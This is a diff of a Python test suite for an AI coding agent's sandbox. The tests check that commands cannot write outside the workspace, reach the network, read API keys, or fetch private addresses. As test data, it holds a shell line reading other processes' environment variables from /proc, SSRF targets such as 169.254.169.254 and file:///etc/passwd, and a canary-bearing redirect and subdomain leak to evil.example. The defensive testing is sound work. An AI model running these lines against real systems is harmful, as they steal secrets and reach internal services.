@@ -23,7 +23,7 @@ from dragoman.host.sandbox import Confinement
 from tests.cli.editor import Editor, turns
 from tests.coder import whole as at_large
 from tests.coder.mcp.bench import RAW_SERVER, raw
-from tests.coder.rows import Told, answer_questions, apart, bash, call, family, snapshot, without_test
+from tests.coder.rows import Told, answer_questions, apart, bash, call, snapshot
 from tests.coder.test_whole import until_server
 from tests.coder.whole import User, events_of, whole
 from tests.host.test_environment import SECRETS
@@ -32,10 +32,6 @@ from tests.needs import need
 
 CANARY = "canary-5d21f0"
 CONFINED = ["workspace-write", "sandbox"]
-
-
-def test_every_row_has_a_test() -> None:
-    assert without_test(sys.modules[__name__], family("I", 1, 14)) == []
 
 
 def in_mode(mode: str, command: str) -> dict[str, Any]:
@@ -89,9 +85,9 @@ def listening() -> Iterator[tuple[int, list[bytes]]]:
 # -- the sandbox -------------------------------------------------------------------------------------------------------
 
 
+@pytest.mark.requirement("I1")
 @pytest.mark.parametrize("mode", CONFINED)
 async def test_nothing_is_written_outside_nor_under_a_protected_name(tmp_path: Path, mode: str) -> None:
-    """Row I1."""
     outside = tmp_path / "outside"
     (tmp_path / "work" / ".git" / "hooks").mkdir(parents=True)
     outside.mkdir()
@@ -110,9 +106,10 @@ async def test_nothing_is_written_outside_nor_under_a_protected_name(tmp_path: P
     assert (snapshot(outside), snapshot(tmp_path / "work")) == before
 
 
+@pytest.mark.requirement("I2")
 @pytest.mark.parametrize("mode", [*CONFINED, "full-access"])
 async def test_nobody_is_reached_over_any_network(tmp_path: Path, mode: str) -> None:
-    """Row I2: a port of this machine, a name, a socket in the file system. Unconfined, the same attempts arrive."""
+    """A port of this machine, a name, a socket in the file system. Unconfined, the same attempts arrive."""
     with listening() as (port, heard), socket.socket(socket.AF_UNIX) as local:
         local.bind(str(tmp_path / "daemon.sock"))
         local.listen()
@@ -136,11 +133,11 @@ async def test_nobody_is_reached_over_any_network(tmp_path: Path, mode: str) -> 
             local.accept()
 
 
+@pytest.mark.requirement("I3")
 @pytest.mark.parametrize("mode", CONFINED)
 async def test_the_agent_is_neither_seen_nor_touched(
     tmp_path: Path, mode: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Row I3."""
     monkeypatch.setenv("OPENAI_API_KEY", CANARY)
     me = os.getpid()
     results = await confined(
@@ -161,9 +158,10 @@ async def test_the_agent_is_neither_seen_nor_touched(
     assert "CapEff:\t0000000000000000" in results[4]
 
 
+@pytest.mark.requirement("I4")
 @pytest.mark.parametrize("mode", CONFINED)
 async def test_without_a_sandbox_no_command_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
-    """Row I4: the reason is told, and nothing runs bare."""
+    """The reason is told, and nothing runs bare."""
     nothing = Confinement(None, 0, ("There is no bubblewrap: apt install bubblewrap.",))
     # This one may be imported by its line, and must not find the other one changed: it would keep that.
     monkeypatch.setattr("dragoman.coder.sandbox.probe", lambda: nothing)
@@ -187,11 +185,12 @@ MORE_SECRETS = [
 ]
 
 
+@pytest.mark.requirement("I5")
 @pytest.mark.parametrize("mode", ["full-access", "ask", "workspace-write", "sandbox"])
 async def test_no_secret_of_the_environment_reaches_a_command(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str
 ) -> None:
-    """Row I5: every name that the unit test has, and a URL with a password."""
+    """Every name that the unit test has, and a URL with a password."""
     need("bwrap")
     names = sorted({*SECRETS, *MORE_SECRETS})
     assert len(names) >= 50
@@ -210,8 +209,9 @@ async def test_no_secret_of_the_environment_reaches_a_command(
     assert CANARY not in model.results[0]
 
 
+@pytest.mark.requirement("I5")
 async def test_no_secret_of_the_environment_reaches_a_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Row I5: and what the client names for it does."""
+    """And what the client names for it does."""
     for name in sorted({*SECRETS, *MORE_SECRETS}):
         monkeypatch.setitem(at_large.ENVIRONMENT, name, f"{CANARY}-{name}")
     server = raw("environment", MEANT_TOKEN="meant")
@@ -238,8 +238,9 @@ def command_lines() -> bytes:
     return b"\n".join(lines)
 
 
+@pytest.mark.requirement("I6")
 def test_no_secret_of_the_settings_is_told_by_anybody(tmp_path: Path) -> None:
-    """Row I6: keys, headers, URLs with a password and servers' variables; wire, stderr, log, transcript, `ps`."""
+    """Keys, headers, URLs with a password and servers' variables; wire, stderr, log, transcript, `ps`."""
     canary = new_mark()  # nobody else on this machine has it in a command line
     home = tmp_path / "home"
     home.mkdir()
@@ -269,8 +270,9 @@ def test_no_secret_of_the_settings_is_told_by_anybody(tmp_path: Path) -> None:
     assert kept.count(canary.encode()) == settings.count(canary.encode())
 
 
+@pytest.mark.requirement("I7")
 def test_what_a_tool_prints_is_in_the_transcript_and_in_no_log(tmp_path: Path) -> None:
-    """Row I7: the user sees what a command printed; stderr, the log folder and a trace of it do not have secrets."""
+    """The user sees what a command printed; stderr, the log folder and a trace of it do not have secrets."""
     (tmp_path / "notes").write_text(f"OPENAI_API_KEY={CANARY}{CANARY}\nsk-{CANARY}{CANARY}\n")
     script = turns(apart([bash("cat notes")]))
     with Editor(tmp_path, script, "--mode", "full", "--trace", str(tmp_path / "trace")) as editor:
@@ -284,9 +286,10 @@ def test_what_a_tool_prints_is_in_the_transcript_and_in_no_log(tmp_path: Path) -
     assert f"sk-{CANARY}".encode() not in (tmp_path / "trace").read_bytes()
 
 
+@pytest.mark.requirement("I8")
 @pytest.mark.parametrize("mode", ["ask", "workspace-write", "full-access", "sandbox", "read-only"])
 async def test_our_keys_are_not_read_by_any_tool(tmp_path: Path, mode: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Row I8: though our data lies in the workspace, and under another name."""
+    """Though our data lies in the workspace, and under another name."""
     need("bwrap")
     work, home = tmp_path / "work", tmp_path / "work" / "data"
     home.mkdir(parents=True)
@@ -314,8 +317,9 @@ async def test_our_keys_are_not_read_by_any_tool(tmp_path: Path, mode: str, monk
     assert not any(CANARY in result for result in model.results), model.results
 
 
+@pytest.mark.requirement("I8")
 def test_our_keys_are_not_read_out_of_our_process(tmp_path: Path) -> None:
-    """Row I8: by a command that nothing confines; and we still have them."""
+    """By a command that nothing confines; and we still have them."""
     canary = new_mark()  # nobody else on this machine has it
     env = {"OPENAI_API_KEY": f"{canary}-key", "HARMLESS": f"{canary}-harmless"}
     look = f"cat /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a {canary}-"
@@ -347,8 +351,9 @@ async def fetched(tmp_path: Path, *urls: str, mode: str = "full-access", user: U
     return model.results
 
 
+@pytest.mark.requirement("I9")
 async def test_no_private_address_is_fetched(tmp_path: Path) -> None:
-    """Row I9: in the mode that allows everything, with a listener that hears nothing."""
+    """In the mode that allows everything, with a listener that hears nothing."""
     with listening() as (port, heard):
         hosts = [
             *("127.0.0.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "0177.1", "127.1"),
@@ -361,10 +366,10 @@ async def test_no_private_address_is_fetched(tmp_path: Path) -> None:
         assert heard == []
 
 
+@pytest.mark.requirement("I10")
 async def test_a_redirect_to_a_private_address_is_refused_at_the_hop(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Row I10."""
     targets = ["http://127.0.0.1/", "http://169.254.169.254/latest", "file:///etc/passwd", "ftp://example.com/"]
     answers: dict[str, Answer] = {f"/{number}": redirect(target) for number, target in enumerate(targets)}
     answers |= {f"/r{number}": redirect(f"/r{number + 1}") for number in range(12)}
@@ -375,8 +380,8 @@ async def test_a_redirect_to_a_private_address_is_refused_at_the_hop(
     assert not any("root:" in result for result in results)
 
 
+@pytest.mark.requirement("I11")
 async def test_only_the_address_that_was_checked_is_dialled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Row I11."""
     async with public_web(monkeypatch, {"/": page(b"hello")}) as world:
         world.names["rebind.example"] = [[PUBLIC], ["127.0.0.1"]]
         results = await fetched(tmp_path, "http://rebind.example/", "http://rebind.example/")
@@ -397,8 +402,8 @@ TWINS = [
 ]
 
 
+@pytest.mark.requirement("I12")
 async def test_always_for_a_host_is_for_that_host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Row I12."""
     user = User("allow_always", "reject_once")
     async with public_web(monkeypatch, {"/": page(b"hello"), "/other": page(b"other")}) as world:
         results = await fetched(
@@ -425,8 +430,9 @@ async def endless(writer: asyncio.StreamWriter) -> None:
         await writer.drain()
 
 
+@pytest.mark.requirement("I13")
 async def test_a_page_without_an_end_is_cut(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Row I13: by its size, and by the user, who does not wait for the deadline."""
+    """By its size, and by the user, who does not wait for the deadline."""
     async with public_web(monkeypatch, {"/endless": endless, "/drip": drip}):
         (result,) = await fetched(tmp_path, "http://example.com/endless")
         assert (len(result) < 30_000, "there was more" in result) == (True, True)
@@ -440,8 +446,9 @@ async def test_a_page_without_an_end_is_cut(tmp_path: Path, monkeypatch: pytest.
         assert turn.stop_reason == "cancelled"
 
 
+@pytest.mark.requirement("I14")
 async def test_nothing_is_resolved_before_a_yes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Row I14: a name is a message already; and a redirect is no way to another host."""
+    """A name is a message already; and a redirect is no way to another host."""
     async with public_web(monkeypatch, {"/": redirect(f"http://evil.example/?{CANARY}")}) as world:
         leak = f"http://{CANARY}.evil.example/"
         for mode in ("ask", "workspace-write", "read-only", "plan", "safe", "sandbox"):
